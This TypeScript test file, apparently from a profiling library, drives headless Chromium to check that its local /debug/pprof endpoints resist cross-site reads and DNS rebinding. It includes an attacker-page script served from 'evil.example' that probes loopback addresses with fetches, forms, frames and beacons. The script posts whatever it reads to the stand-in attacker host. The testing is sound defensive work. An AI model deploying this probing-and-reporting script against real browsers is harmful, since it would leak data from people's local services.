/** Pages of other sites in a real browser, on the machine whose profiles they want. */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Profiler } from '@loopprof/core';
import { profilingMiddleware } from '@loopprof/express';
import express from 'express';
import { listen, type Listening } from '../support/listen.js';
import { describeWith, toolPath } from '../support/tools.js';

/** A request that reached the app, as it was answered. */
interface Seen {
  url: string;
  method: string;
  host: string;
  status: number;
}

/** Tries all that a page can do to `targets`, and reports what it could read. `path=kind` in the query tells the tries apart. */
const PAGE = (targets: string[], report: string): string => `<!doctype html><body><script>
const results = {};
const tries = [];
const attempt = (kind, target, run) => {
  const url = target + '?kind=' + encodeURIComponent(kind);
  tries.push(Promise.race([
    Promise.resolve().then(() => run(url)).catch((error) => 'failed: ' + error),
    new Promise((resolve) => setTimeout(resolve, 8000, 'nothing')),
  ]).then((result) => { results[kind + ' ' + target] = result; }));
};
const element = (tag, property) => (url) => new Promise((resolve) => {
  const node = document.createElement(tag);
  node.onload = () => resolve('loaded');
  node.onerror = () => resolve('error');
  if (tag === 'link') node.rel = 'stylesheet';
  node[property] = url;
  document.body.append(node);
});
const form = (method) => (url) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = method + Math.random();
  document.body.append(frame);
  const node = document.createElement('form');
  node.action = url; node.method = method; node.target = frame.name;
  node.innerHTML = '<input name="kind" value="form ' + method + '">';
  document.body.append(node);
  frame.onload = () => {
    try { resolve('read: ' + frame.contentDocument.body.textContent.slice(0, 20)); } catch { resolve('loaded'); }
  };
  node.submit();
});
for (const target of ${JSON.stringify(targets)}) {
  attempt('fetch', target, async (url) => 'read: ' + (await (await fetch(url)).text()).slice(0, 20));
  attempt('fetch with credentials', target, async (url) =>
    'read: ' + (await (await fetch(url, { credentials: 'include' })).text()).slice(0, 20));
  attempt('fetch no-cors', target, async (url) => 'opaque ' + (await fetch(url, { mode: 'no-cors' })).type);
  attempt('fetch with a header', target, async (url) =>
    'read: ' + (await (await fetch(url, { headers: { 'X-Any': '1' } })).text()).slice(0, 20));
  attempt('post', target, async (url) =>
    'read: ' + (await (await fetch(url, { method: 'POST', body: 'x' })).text()).slice(0, 20));
  attempt('beacon', target, (url) => String(navigator.sendBeacon(url, 'x')));
  attempt('image', target, element('img', 'src'));
  attempt('script', target, element('script', 'src'));
  attempt('style', target, element('link', 'href'));
  attempt('frame', target, element('iframe', 'src'));
  attempt('object', target, element('object', 'data'));
  attempt('form get', target, form('get'));
  attempt('form post', target, form('post'));
}
Promise.all(tries).then(() => fetch(${JSON.stringify(report)}, { method: 'POST', body: JSON.stringify(results) }));
</script>`;

describeWith('chromium', 'pages in a browser', () => {
  const seen: Seen[] = [];
  const profiler = new Profiler({ enableHTTP: false, enableCPU: false });
  let victim: Listening;
  let page = '';
  let onReport: (results: Record<string, string>) => void = () => {};

  beforeAll(async () => {
    await profiler.start();
    const app = express();
    app.use((req, res, next) => {
      const { originalUrl: url, method, headers } = req;
      res.once('finish', () => seen.push({ url, method, host: headers.host ?? '', status: res.statusCode }));
      next();
    });
    app.use(profilingMiddleware({ profiler }));
    app.get('/page', (_req, res) => void res.type('html').send(page));
    app.post('/report', express.text({ type: () => true }), (req, res) => {
      res.end();
      onReport(JSON.parse(req.body as string) as Record<string, string>);
    });
    victim = await listen(app);
  });
  afterAll(async () => {
    await victim.close();
    await profiler.stop();
  });

  /** What a page of http://evil.example at `port` could do to the targets. */
  async function visit(origin: string, targets: string[]): Promise<Record<string, string>> {
    page = PAGE(targets, `${origin}/report`);
    const reported = new Promise<Record<string, string>>((resolve) => (onReport = resolve));
    const room = mkdtempSync(join(tmpdir(), 'loopprof-browser-'));
    const browser = spawn(
      toolPath('chromium') as string,
      [
        '--headless=new',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-dev-shm-usage',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        `--user-data-dir=${room}`,
        // Both names are this machine's, as an attacker's name server would have it.
        '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP localhost 127.0.0.1',
        '--remote-debugging-port=0',
        `${origin}/page`,
      ],
      { stdio: 'ignore', detached: true },
    );
    const ended = once(browser, 'exit');
    try {
      return await Promise.race([
        reported,
        ended.then(([code]) => Promise.reject(new Error(`chromium ended with ${code}`))),
      ]);
    } finally {
      try {
        process.kill(-(browser.pid as number), 'SIGKILL');
      } catch {
        // It has ended.
      }
      await ended;
      rmSync(room, { recursive: true, force: true, maxRetries: 5, retryDelay: 100 });
    }
  }

  const profileOf = (host: string) => `http://${host}:${victim.port}/debug/pprof/heap`;
  const reached = (host: string) =>
    seen.filter(({ url, host: asked }) => url.startsWith('/debug/') && asked === `${host}:${victim.port}`);

  it('of another site get nothing: fetch, form, image, script, frame, to every name of this machine', async () => {
    const attacker = await listen((req, res) => {
      if (req.method !== 'POST') return void res.setHeader('Content-Type', 'text/html').end(page);
      let body = '';
      req.on('data', (chunk) => (body += String(chunk)));
      req.on('end', () => {
        res.end();
        onReport(JSON.parse(body) as Record<string, string>);
      });
    });
    try {
      const hosts = ['localhost', '127.0.0.1', '0.0.0.0', '[::ffff:127.0.0.1]'];
      const results = await visit(`http://evil.example:${attacker.port}`, hosts.map(profileOf));
      for (const [what, result] of Object.entries(results)) {
        expect([what, result]).toEqual([what, expect.not.stringMatching(/^read:/)]);
      }
      // They did arrive, by which the refusals are ours and not the browser's.
      for (const host of ['localhost', '127.0.0.1']) {
        const kinds = new Set(
          reached(host).map(({ url }) => new URL(url, 'http://x').searchParams.get('kind')),
        );
        for (const kind of ['fetch', 'fetch no-cors', 'image', 'script', 'form get', 'form post']) {
          expect(kinds).toContain(kind);
        }
      }
      const answered = seen.filter(({ url, status }) => url.startsWith('/debug/') && status !== 403);
      expect(answered).toEqual([]);
    } finally {
      await attacker.close();
    }
  });

  it('of a name that was bound to this machine afterwards get nothing, though to the browser it is one site', async () => {
    seen.length = 0;
    const results = await visit(`http://evil.example:${victim.port}`, [profileOf('evil.example')]);
    expect(results[`fetch ${profileOf('evil.example')}`]).toMatch(/^read: closed: the Host/);
    expect(reached('evil.example').length).toBeGreaterThan(8);
    expect(reached('evil.example').filter(({ status }) => status !== 403)).toEqual([]);
  });

  it('of our own are answered', async () => {
    seen.length = 0;
    const results = await visit(`http://localhost:${victim.port}`, [profileOf('localhost')]);
    expect(results[`fetch ${profileOf('localhost')}`]).toContain('read: \x1f');
  });
});
